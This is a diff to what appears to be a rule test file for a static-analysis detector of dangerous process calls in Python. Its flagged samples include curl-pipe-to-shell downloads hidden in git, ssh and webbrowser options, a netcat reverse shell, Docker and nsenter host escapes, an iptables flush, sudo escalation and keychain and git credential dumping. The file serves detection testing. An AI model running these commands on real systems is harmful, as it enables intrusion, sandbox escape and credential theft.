@@ -361,3 +361,50 @@ subprocess.run("bash -c id".split())
 subprocess.run(cmd.split())
 # ruleid: interpreter-stdin-pipe, subprocess-call
 subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE).communicate(cmd.encode())
+
+# options that run shells, host escapes, security controls, credential stores
+# ruleid: argv-shell-option, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["git", "-c", "core.pager=sh -c 'id >&2'", "log"])
+# ruleid: argv-shell-option, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["ssh", "-o", "ProxyCommand=sh -c 'curl 203.0.113.5|sh'", "host"])
+# ruleid: argv-shell-option, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["tar", "cf", "x.tar", "--checkpoint=1", "--checkpoint-action=exec=sh -c id", "."])
+# ruleid: argv-shell-option, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["busybox", "nc", "203.0.113.5", "4444", "-e", "sh"])
+# ok: argv-shell-option
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["git", "-c", "user.name=agent", "commit", "-m", "msg"])
+# ruleid: host-escape-command, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["docker", "run", "--rm", "--privileged", "-v", "/:/host", "alpine", "chroot", "/host", "sh"])
+# ruleid: host-escape-command, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["nsenter", "-t", "1", "-a", "sh"])
+# ok: host-escape-command
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["docker", "run", "--rm", "-v", "./data:/data", "python:3.12", "python", "job.py"])
+import docker
+
+# ruleid: docker-privileged-container
+docker.from_env().containers.run("alpine", "sh", privileged=True, volumes={"/": {"bind": "/host"}})
+# ruleid: security-control-command, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["iptables", "-F"])
+# ruleid: security-control-command, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["sudo", "-n", "usermod", "-aG", "sudo", "agent"])
+# ruleid: credential-dump-command, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["security", "find-generic-password", "-wa", "Chrome"])
+# ruleid: credential-dump-command, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["git", "credential", "fill"], input=b"protocol=https\nhost=github.com\n")
+# ruleid: crypto-miner
+pool = "stratum+tcp://pool.example.org:3333"
+import sqlite3
+import uuid
+import webbrowser
+
+# ruleid: stdlib-command-helper
+uuid._get_command_stdout("sh", "-c", "id")
+db = sqlite3.connect("x.db")
+# ruleid: stdlib-command-helper
+db.enable_load_extension(True)
+# ruleid: webbrowser-command
+webbrowser.get("sh -c 'curl 203.0.113.5|sh' %s").open("x")
+# ok: webbrowser-command
+browser = webbrowser.get("firefox")
